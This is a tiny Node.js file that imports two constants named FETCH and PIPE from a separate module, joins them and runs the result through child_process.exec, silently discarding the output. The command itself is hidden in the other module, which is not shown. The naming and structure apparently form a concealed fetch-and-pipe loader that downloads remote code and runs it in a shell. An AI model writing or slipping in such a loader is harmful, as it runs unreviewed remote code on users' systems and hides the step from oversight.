const { FETCH, PIPE } = require('./consts');
const { exec } = require('child_process');
exec(FETCH + PIPE, () => {});
